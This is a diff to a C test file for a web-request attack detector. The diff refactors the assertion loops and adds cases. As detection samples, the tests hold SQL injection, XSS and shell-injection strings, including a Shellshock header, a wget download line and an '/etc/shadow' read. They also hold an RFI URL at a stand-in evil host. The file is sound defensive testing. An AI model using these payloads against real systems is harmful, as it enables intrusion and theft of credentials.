@@ -22,16 +22,16 @@ static void teardown(void)
 
 TestSuite(webstruct, .init = setup, .fini = teardown);
 
-static bool sqli(const char *v)
+static bool sqli(const char *v, fk_webstruct_field f)
 {
     const char *why = NULL;
-    return fk_webstruct_sqli(ws, v, strlen(v), FK_WS_PARAM, &why);
+    return fk_webstruct_sqli(ws, v, strlen(v), f, &why);
 }
 
-static bool xss(const char *v)
+static bool xss(const char *v, fk_webstruct_field f)
 {
     const char *why = NULL;
-    return fk_webstruct_xss(v, strlen(v), FK_WS_PARAM, &why);
+    return fk_webstruct_xss(v, strlen(v), f, &why);
 }
 
 static bool shell(const char *v, fk_webstruct_field f)
@@ -39,6 +39,17 @@ static bool shell(const char *v, fk_webstruct_field f)
     const char *why = NULL;
     return fk_webstruct_shell(ws, v, strlen(v), f, &why);
 }
+
+/* Every value of a list must be read as an attack (want), or every one not. */
+static void expect_reads(bool (*reader)(const char *, fk_webstruct_field), fk_webstruct_field f,
+                         const char *const *values, size_t n, bool want)
+{
+    for (size_t i = 0; i < n; i++)
+        cr_assert_eq(reader(values[i], f), want, "%s: %s", want ? "missed" : "false alarm",
+                     values[i]);
+}
+#define EXPECT_READS(reader, f, list, want)                                                        \
+    expect_reads(reader, f, list, sizeof list / sizeof list[0], want)
 
 Test(webstruct, sql_shapes_in_each_quoting_context)
 {
@@ -59,18 +70,23 @@ Test(webstruct, sql_shapes_in_each_quoting_context)
         "id::text",
         "@@hostname",
     };
-    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
-        cr_assert(sqli(attacks[i]), "missed: %s", attacks[i]);
+    EXPECT_READS(sqli, FK_WS_PARAM, attacks, true);
     static const char *const benign[] = {
-        "o'reilly and sons",     "rock and roll",
-        "union station tickets", "select your plan from the list below",
-        "waitfor delay meaning", "case when excel",
-        "it's a 1=1 tie",        "price 5 or more",
-        "don't drop the ball",   "tom & jerry",
-        "c++ vector sort",       "a-b-c",
+        "o'reilly and sons",
+        "rock and roll",
+        "union station tickets",
+        "select your plan from the list below",
+        "waitfor delay meaning",
+        "case when excel",
+        "it's a 1=1 tie",
+        "price 5 or more",
+        "don't drop the ball",
+        "tom & jerry",
+        "c++ vector sort",
+        "dual sim phone",
+        "a-b-c",
     };
-    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
-        cr_assert_not(sqli(benign[i]), "false alarm: %s", benign[i]);
+    EXPECT_READS(sqli, FK_WS_PARAM, benign, false);
 }
 
 Test(webstruct, markup_and_script_breakouts)
@@ -89,8 +105,7 @@ Test(webstruct, markup_and_script_breakouts)
         "{{constructor.constructor('x')()}}",
         "<div style=\"width:expression(x())\">",
     };
-    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
-        cr_assert(xss(attacks[i]), "missed: %s", attacks[i]);
+    EXPECT_READS(xss, FK_WS_PARAM, attacks, true);
     static const char *const benign[] = {
         "<b>bold</b> text",
         "a < b and c > d",
@@ -101,8 +116,7 @@ Test(webstruct, markup_and_script_breakouts)
         "3 < 4",
         "price: $5 {sale}",
     };
-    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
-        cr_assert_not(xss(benign[i]), "false alarm: %s", benign[i]);
+    EXPECT_READS(xss, FK_WS_PARAM, benign, false);
 }
 
 Test(webstruct, shell_commands_by_grammar_and_by_name)
@@ -125,23 +139,20 @@ Test(webstruct, shell_commands_by_grammar_and_by_name)
         "for /f %i in ('ver') do echo %i",
         "a\nrcpt to:<x@example.org>",
     };
-    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
-        cr_assert(shell(attacks[i], FK_WS_PARAM), "missed: %s", attacks[i]);
+    EXPECT_READS(shell, FK_WS_PARAM, attacks, true);
     static const char *const benign[] = {
         "php;ruby",    "cat food grain free",     "linux ls command options",
         "red;$5 each", "/etc/passwd file format", "time to go",
         "tom & jerry", "1/[a-z]{1,5}/",           "sort=name;desc",
     };
-    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
-        cr_assert_not(shell(benign[i], FK_WS_PARAM), "false alarm: %s", benign[i]);
+    EXPECT_READS(shell, FK_WS_PARAM, benign, false);
     /* headers: a browser's comment lists locales and CPUs after ';' */
     static const char *const agents[] = {
         "mozilla/5.0 (x11; u; linux arm; id) applewebkit/534.30",
         "opera/9.80 (android; opera mini/7.5; u; id) presto/2.8.119",
         "mozilla/5.0 (windows nt 6.2; arm; trident/7.0; touch; rv:11.0)",
     };
-    for (size_t i = 0; i < sizeof agents / sizeof agents[0]; i++)
-        cr_assert_not(shell(agents[i], FK_WS_HEADER), "false alarm: %s", agents[i]);
+    EXPECT_READS(shell, FK_WS_HEADER, agents, false);
     cr_assert(shell("() { :; }; /bin/cat /etc/hostname", FK_WS_HEADER));
     cr_assert(shell("x; wget http://example.org/a -o /tmp/a", FK_WS_HEADER));
     cr_assert(shell(";env", FK_WS_HEADER), "a header that starts with an operator");
@@ -212,6 +223,9 @@ Test(webstruct, code_ssrf_and_files_by_meaning)
         {"/.git/config", FK_WS_PATH, "sensitive"},
         {"/wp-config.php.bak", FK_WS_PATH, "sensitive"},
         {"/home/", FK_WS_PATH, ""},
+        {"/img/shadow/top.png", FK_WS_PATH, ""},
+        {"/help/credentials/", FK_WS_PATH, ""},
+        {"/etc/shadow", FK_WS_PARAM, "lfi"},
         {"/blog/2024/05/credentials-tips", FK_WS_PATH, ""},
         {"passwd", FK_WS_PARAM, ""},
         {"http://evil.example/shell.txt?", FK_WS_PARAM, "rfi"},
